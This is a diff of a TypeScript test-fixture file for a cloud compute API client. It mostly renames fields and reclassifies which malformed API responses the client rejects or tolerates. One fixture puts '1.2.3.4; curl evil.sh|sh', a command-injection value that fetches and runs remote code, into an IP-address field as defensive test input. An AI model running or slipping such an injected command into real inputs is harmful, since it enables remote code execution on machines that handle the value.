@@ -1,4 +1,5 @@
-import type { ActionName, AnswerOf, RequestOf } from '../../contract/actions';
+import type { RequestOf, ResponseOf, WireResponseOf } from '../../contract/action';
+import { actions, type ActionName, type Actions } from '../../contract/actions';
 import { connectTo } from './backend';
 import { call } from './call';
 
@@ -7,7 +8,10 @@ import { call } from './call';
  * may make of them.
  */
 
-type Exchange<A extends ActionName> = { request: RequestOf<A>; answer: AnswerOf<A> };
+type Exchange<A extends ActionName> = {
+  request: RequestOf<Actions[A]>;
+  response: WireResponseOf<Actions[A]>;
+};
 
 const keyPair = {
   KeyPairName: 'web',
@@ -47,11 +51,11 @@ const result = { InstanceId: 'i-1', Success: true, Code: '200', Message: 'succes
 const exchanges = {
   DescribeRegions: {
     request: {},
-    answer: { RequestId: 'R', Regions: { Region: [region] } },
+    response: { RequestId: 'R', Regions: { Region: [region] } },
   } satisfies Exchange<'DescribeRegions'>,
   DescribeKeyPairs: {
     request: { RegionId: 'cn-hangzhou', PageNumber: 1, PageSize: 50 },
-    answer: {
+    response: {
       RequestId: 'R',
       PageNumber: 1,
       PageSize: 50,
@@ -61,15 +65,19 @@ const exchanges = {
   } satisfies Exchange<'DescribeKeyPairs'>,
   ImportKeyPair: {
     request: { RegionId: 'cn-hangzhou', KeyPairName: 'web', PublicKeyBody: 'ssh-rsa AAAA' },
-    answer: { RequestId: 'R', KeyPairName: 'web', KeyPairFingerPrint: keyPair.KeyPairFingerPrint },
+    response: {
+      RequestId: 'R',
+      KeyPairName: 'web',
+      KeyPairFingerPrint: keyPair.KeyPairFingerPrint,
+    },
   } satisfies Exchange<'ImportKeyPair'>,
   DeleteKeyPairs: {
     request: { RegionId: 'cn-hangzhou', KeyPairNames: ['web'] },
-    answer: { RequestId: 'R' },
+    response: { RequestId: 'R' },
   } satisfies Exchange<'DeleteKeyPairs'>,
   AttachKeyPair: {
     request: { RegionId: 'cn-hangzhou', KeyPairName: 'web', InstanceIds: ['i-1', 'i-2'] },
-    answer: {
+    response: {
       RequestId: 'R',
       KeyPairName: 'web',
       TotalCount: 2,
@@ -79,7 +87,7 @@ const exchanges = {
   } satisfies Exchange<'AttachKeyPair'>,
   DescribeInstances: {
     request: { RegionId: 'cn-hangzhou', MaxResults: 100 },
-    answer: {
+    response: {
       RequestId: 'R',
       TotalCount: 1,
       PageNumber: 1,
@@ -108,10 +116,10 @@ const publicAddressPath = `${instances}.0.PublicIpAddress.IpAddress`;
 const fingerprintPath = `${pairs}.0.KeyPairFingerPrint`;
 
 /** A full first page of a list that is said to have that many rows. */
-function countedAs(total: number): AnswerOf<'DescribeKeyPairs'> {
+function countedAs(total: number): WireResponseOf<Actions['DescribeKeyPairs']> {
   const rows = Array.from({ length: 50 }, (_, at) => ({ ...keyPair, KeyPairName: `web-${at}` }));
-  const { answer } = exchanges.DescribeKeyPairs;
-  return { ...answer, TotalCount: total, KeyPairs: { KeyPair: rows } };
+  const { response } = exchanges.DescribeKeyPairs;
+  return { ...response, TotalCount: total, KeyPairs: { KeyPair: rows } };
 }
 
 export const drifts: readonly Difference[] = [
@@ -126,18 +134,12 @@ export const drifts: readonly Difference[] = [
   ['DescribeKeyPairs', 'a blank name', `${pairs}.0.KeyPairName`, ' '],
   ['DescribeKeyPairs', 'a number as name', `${pairs}.0.KeyPairName`, 7],
   ['DescribeKeyPairs', 'half of a surrogate pair in a name', `${pairs}.0.KeyPairName`, 'x\ud800y'],
-  ['DescribeKeyPairs', 'no fingerprint', fingerprintPath],
-  ['DescribeKeyPairs', 'a number as time', `${pairs}.0.CreationTime`, 1_543_307_580],
-  ['DescribeKeyPairs', 'no tags', `${pairs}.0.Tags`],
-  ['DescribeKeyPairs', 'a tag without a value', `${pairs}.0.Tags.Tag.0.TagValue`],
   [
     'DescribeKeyPairs',
     'a tag key twice',
     `${pairs}.0.Tags.Tag.1`,
     { TagKey: 'team', TagValue: '' },
   ],
-  ['DescribeKeyPairs', 'a list as public key', `${pairs}.0.PublicKey`, ['ssh-rsa AAAA']],
-  ['DescribeKeyPairs', 'text as count', 'TotalCount', '2'],
   ['DescribeKeyPairs', 'a negative count', 'TotalCount', -1],
   ['DescribeKeyPairs', 'a broken count', 'TotalCount', 2.5],
   ['DescribeKeyPairs', 'a count below the rows', 'TotalCount', 1],
@@ -145,20 +147,14 @@ export const drifts: readonly Difference[] = [
   ['DescribeKeyPairs', 'a count of a billion', '', countedAs(1e9)],
   ['DescribeKeyPairs', 'another page', 'PageNumber', 2],
   ['DescribeKeyPairs', 'another page size', 'PageSize', 10],
-  ['DescribeKeyPairs', 'no request id', 'RequestId'],
   ['DescribeRegions', 'no list', 'Regions.Region'],
   ['DescribeRegions', 'no region at all', 'Regions.Region', []],
   ['DescribeRegions', 'a region twice', 'Regions.Region.1', region],
-  ['DescribeRegions', 'no name', 'Regions.Region.0.LocalName'],
-  ['DescribeRegions', 'a blank name', 'Regions.Region.0.LocalName', ' '],
   ['DescribeRegions', 'half of a surrogate pair in an id', 'Regions.Region.0.RegionId', '\udc00'],
   ['DescribeInstances', 'no list', 'Instances'],
   ['DescribeInstances', 'an instance twice', `${instances}.1`, instance],
   ['DescribeInstances', 'another region', `${instances}.0.RegionId`, 'us-east-1'],
   ['DescribeInstances', 'an unknown status', `${instances}.0.Status`, 'Melted'],
-  ['DescribeInstances', 'text as truth', `${instances}.0.IoOptimized`, 'true'],
-  ['DescribeInstances', 'a list of nothing', publicAddressPath, null],
-  ['DescribeInstances', 'no token', 'NextToken'],
   ['ImportKeyPair', 'another key pair', 'KeyPairName', 'ops'],
   ['ImportKeyPair', 'no fingerprint', 'KeyPairFingerPrint'],
   ['DeleteKeyPairs', 'no request id', 'RequestId'],
@@ -169,7 +165,6 @@ export const drifts: readonly Difference[] = [
   ['AttachKeyPair', 'a count of other instances', 'TotalCount', 3],
   ['AttachKeyPair', 'a failure that it does not list', 'FailCount', 1],
   ['AttachKeyPair', 'a failure that it does not count', 'Results.Result.0.Success', false],
-  ['AttachKeyPair', 'text as truth', 'Results.Result.0.Success', 'true'],
 ];
 
 /** What is new, or not there because nothing is known, and no reason to refuse. */
@@ -183,6 +178,21 @@ export const harmless: readonly Difference[] = [
   ['DescribeInstances', 'a new field of a row', `${instances}.0.Cpu`, 4],
   ['DescribeInstances', 'words as an address', publicAddressPath, ['1.2.3.4; curl evil.sh|sh']],
   ['AttachKeyPair', 'an instance left out', 'Results.Result', [result]],
+  ['DescribeKeyPairs', 'no fingerprint', fingerprintPath],
+  ['DescribeKeyPairs', 'a number as time', `${pairs}.0.CreationTime`, 1_543_307_580],
+  ['DescribeKeyPairs', 'no tags', `${pairs}.0.Tags`],
+  ['DescribeKeyPairs', 'a tag without a value', `${pairs}.0.Tags.Tag.0.TagValue`],
+  ['DescribeKeyPairs', 'a list as public key', `${pairs}.0.PublicKey`, ['ssh-rsa AAAA']],
+  ['DescribeKeyPairs', 'text as count', 'TotalCount', '2'],
+  ['DescribeKeyPairs', 'no request id', 'RequestId'],
+  ['DescribeRegions', 'no name', 'Regions.Region.0.LocalName'],
+  ['DescribeRegions', 'a blank name', 'Regions.Region.0.LocalName', ' '],
+  ['DescribeInstances', 'text as truth', `${instances}.0.IoOptimized`, 'true'],
+  ['DescribeInstances', 'a list of nothing', publicAddressPath, null],
+  ['DescribeInstances', 'no token', 'NextToken'],
+  ['AttachKeyPair', 'text as truth', 'Results.Result.0.Success', 'true'],
+  ['AttachKeyPair', 'no key pair', 'KeyPairName'],
+  ['AttachKeyPair', 'text as counts', 'FailCount', '0'],
 ];
 
 /** What may come instead of any answer at all. */
@@ -210,10 +220,10 @@ export function titleOf([action, what]: Difference): string {
 
 /** Asks for what the answer with the difference is an answer to. */
 export function readDrifted([action, , path, value]: Difference): Promise<unknown> {
-  const { answer } = exchanges[action];
+  const { response } = exchanges[action];
   return read(
     action,
-    JSON.stringify(withDifference(answer, path === '' ? [] : path.split('.'), value)),
+    JSON.stringify(withDifference(response, path === '' ? [] : path.split('.'), value)),
     200,
   );
 }
@@ -221,7 +231,8 @@ export function readDrifted([action, , path, value]: Difference): Promise<unknow
 /** The fingerprint that the console goes by when ECS lists this one. */
 export async function fingerprintReadFrom(listed: string): Promise<string | undefined> {
   const answer = await readDrifted(['DescribeKeyPairs', '', fingerprintPath, listed]);
-  return (answer as AnswerOf<'DescribeKeyPairs'>).KeyPairs.KeyPair[0]?.KeyPairFingerPrint;
+  return (answer as ResponseOf<Actions['DescribeKeyPairs']>).KeyPairs.KeyPair[0]
+    ?.KeyPairFingerPrint;
 }
 
 /** The addresses that the console goes by when ECS lists this one, as each kind of address. */
@@ -237,7 +248,7 @@ export async function addressesReadFrom(listed: string) {
       VpcAttributes: { VpcId: 'vpc-1', PrivateIpAddress: { IpAddress: [listed] } },
     },
   ]);
-  return (answer as AnswerOf<'DescribeInstances'>).Instances.Instance.flatMap((row) => [
+  return (answer as ResponseOf<Actions['DescribeInstances']>).Instances.Instance.flatMap((row) => [
     ...row.PublicIpAddress.IpAddress,
     row.EipAddress.IpAddress,
     ...row.VpcAttributes.PrivateIpAddress.IpAddress,
@@ -250,7 +261,7 @@ export function readInstead(body: string, status: number): Promise<unknown> {
 
 function read(action: TriedAction, body: string, status: number): Promise<unknown> {
   connectTo({ send: async () => new Response(body, { status }) });
-  return call(action, exchanges[action].request, { timeout: 1000 });
+  return call(actions[action], exchanges[action].request, { timeout: 1000 });
 }
 
 function withDifference(value: unknown, [key, ...deeper]: string[], change: unknown): unknown {
